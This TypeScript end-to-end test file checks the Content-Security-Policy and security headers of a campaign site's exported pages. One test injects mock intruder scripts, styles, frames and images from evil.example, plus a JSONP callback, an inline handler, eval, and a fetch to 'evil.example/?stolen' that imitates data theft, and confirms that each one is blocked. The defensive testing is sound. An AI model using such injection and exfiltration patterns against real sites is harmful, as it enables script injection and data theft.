import { audiences, homeAudience } from '@/lib/campaigns';
import { icons } from '@/lib/icons';
import { filesList, hashedFiles, headersFile } from '@/scripts/export/headers.mjs';
import { emailPolicy } from '@/scripts/export/policy.mjs';
import { exportedFiles, noSignInExport, readExported, signInExport } from './exports';
import { expect, landingPage, pages, postViews, reviewViews, test, unknownPath } from './fixtures';
import { identityService } from './sign-in';

const [post = '', framedPost = ''] = postViews.map(({ route }) => route);
const email = `/campaigns/${homeAudience.id}/email`;

/** For each export, the addresses that its pages may reach besides their own site's. */
const exports = {
  [signInExport]: [
    'https://apis.google.com/js/api.js',
    'https://apis.google.com/_/scs/abc-static/_/js/',
    'https://*.googleusercontent.com',
    identityService,
  ],
  [noSignInExport]: [],
};

for (const [folder, addresses] of Object.entries(exports)) {
  test(`every HTML file in ${folder} has one policy, before anything that it covers`, () => {
    const files = exportedFiles(folder, '.html');
    expect(files.length).toBeGreaterThan(pages.length + audiences.length);
    for (const file of files) {
      const html = readExported(folder, file);
      // People take emails elsewhere as they are, so they have no policy that's only for this site.
      if (file.endsWith('email.html')) {
        expect([file, html.includes('Content-Security-Policy')]).toEqual([file, false]);
        continue;
      }
      const [before = '', ...after] = html.split(
        /<meta http-equiv="Content-Security-Policy" content="/,
      );
      expect([file, after.length]).toEqual([file, 1]);
      const policy = after[0]?.split('"')[0] ?? '';
      expect(before).not.toMatch(/<(link|script|style|img)/);
      // The character set has to be declared within the first 1024 bytes.
      expect(Buffer.byteLength(before)).toBeLessThan(1024);
      if (file.endsWith('email-preview.html')) {
        expect(policy).toBe(emailPolicy);
        continue;
      }
      expect(policy).not.toMatch(
        /unsafe-(eval|hashes)|(script|style|default)-src(-elem)? [^;]*unsafe-inline/,
      );
      const reached = policy.match(/(?:https?|wss?):[^\s;]*/g) ?? [];
      expect([file, new Set(reached)]).toEqual([file, new Set(addresses)]);
    }
  });
}

test('each export has its headers for other hosts, and lists its hashed files for the next release', () => {
  for (const folder of Object.keys(exports)) {
    const files = hashedFiles(folder);
    expect(readExported(folder, '_headers')).toBe(headersFile(files));
    expect(JSON.parse(readExported(folder, filesList))).toEqual(files);
  }
});

test('each HTML file is served with its policy as a header, too', async ({ request }) => {
  for (const file of exportedFiles(signInExport, '.html')) {
    const [, policy = emailPolicy] =
      /<meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(
        readExported(signInExport, file),
      ) ?? [];
    const response = await request.get(`/${file}`);
    const frames = /^campaigns\/|embed\.html$/.test(file) ? 'self' : 'none';
    expect([file, response.headers()['content-security-policy']]).toEqual([
      file,
      `${policy}; frame-ancestors '${frames}'`,
    ]);
  }
});

test('every file is served with the headers for its kind', async ({ request, page }) => {
  await page.goto(landingPage.route);
  const scripts = await page
    .locator('script[src]')
    .evaluateAll((all) => all.map((script) => script.getAttribute('src') ?? ''));
  const none = "frame-ancestors 'none'";
  const self = "frame-ancestors 'self'";
  const icon = icons[0]?.file ?? '';
  const kinds: [url: string, frames: string, caching: unknown][] = [
    ...[...pages, ...reviewViews].map(({ route }): [string, string, string] => [
      route,
      none,
      'no-cache',
    ]),
    [unknownPath, none, 'no-cache'],
    [post, none, 'no-cache'],
    [framedPost, self, 'no-cache'],
    [email, self, 'no-cache'],
    [`${email}.txt`, self, 'no-cache'],
    [icon, self, 'no-cache'],
    ['/no/such/page', self, expect.anything()],
    ...scripts.map((url): [string, string, string] => [
      url,
      self,
      'public, max-age=31536000, immutable',
    ]),
    ['/_next/static/chunks/gone.js', self, 'no-cache'],
  ];
  for (const [url, frames, caching] of kinds) {
    const headers = (await request.get(url)).headers();
    expect({ url, ...headers }).toMatchObject({
      url,
      'content-security-policy': expect.stringMatching(new RegExp(`${frames}$`)),
      'cache-control': caching,
      'strict-transport-security': expect.stringMatching(/^max-age=/),
      'cross-origin-opener-policy': 'same-origin-allow-popups',
      'cross-origin-resource-policy': url === icon ? 'cross-origin' : 'same-origin',
      'x-content-type-options': 'nosniff',
      'referrer-policy': 'strict-origin-when-cross-origin',
      'permissions-policy': expect.stringContaining('camera=()'),
    });
  }
});

test.describe('code injected into a page', () => {
  test.use({ expectedProblems: [/Content Security Policy/] });

  test('does nothing: scripts, handlers, eval, styles, frames, images, requests', async ({
    page,
  }) => {
    await page.goto('/');
    // A set, because the policy is both in the HTML and in a header, and each one reports.
    const violations = new Set<string>();
    await page.exposeFunction('report', (violation: string) => void violations.add(violation));
    await page.evaluate(() => {
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
        // oxlint-disable-next-line typescript/no-unsafe-type-assertion
        (window as unknown as { report(text: string): void }).report(
          `${effectiveDirective} ${blockedURI}`,
        ),
      );
      const intruders = [
        ['script', { textContent: 'document.title = "inline"' }],
        ['script', { src: 'https://evil.example/a.js' }],
        ['script', { src: 'https://apis.google.com/complete?callback=alert' }],
        ['style', { textContent: 'body { outline: 9px solid }' }],
        ['link', { rel: 'stylesheet', href: 'https://evil.example/a.css' }],
        ['iframe', { src: 'https://evil.example/' }],
        ['img', { src: 'https://evil.example/a.png' }],
        ['div', { innerHTML: '<button onclick="document.title = \'handler\'"></button>' }],
      ] as const;
      for (const [name, values] of intruders)
        document.body.append(Object.assign(document.createElement(name), values));
      document.querySelector<HTMLButtonElement>('body > div > button')?.click();
      // oxlint-disable-next-line typescript/no-implied-eval -- what an intruder would do
      setTimeout('document.title = "text"');
      fetch('https://evil.example/?stolen').catch(() => {});
    });
    await expect
      .poll(() => [...violations].toSorted())
      .toEqual([
        'connect-src https://evil.example/?stolen',
        'frame-src https://evil.example',
        'img-src https://evil.example/a.png',
        'script-src eval',
        'script-src-attr inline',
        'script-src-elem https://apis.google.com/complete?callback=alert',
        'script-src-elem https://evil.example/a.js',
        'script-src-elem inline',
        'style-src-elem https://evil.example/a.css',
        'style-src-elem inline',
      ]);
    await expect(page).toHaveTitle(new RegExp(homeAudience.landing.title));
    await expect(page.locator('body')).not.toHaveCSS('outline-width', '9px');
  });

  test('does not run in an email', async ({ page }) => {
    await page.goto(email);
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'document.title = "inline"';
      document.body.append(script);
    });
    await expect(page).toHaveTitle(homeAudience.email.subject);
  });
});

test.describe('a page in a frame', () => {
  test.use({ expectedProblems: [/frame-ancestors 'none'|ERR_BLOCKED_BY_RESPONSE/] });

  test('is not shown, not even on this site', async ({ page }) => {
    await page.goto('/');
    const refused = page.waitForEvent('requestfailed');
    await page.evaluate((src) => {
      document.body.append(Object.assign(document.createElement('iframe'), { src }));
    }, pages[1]?.route);
    await refused;
  });
});
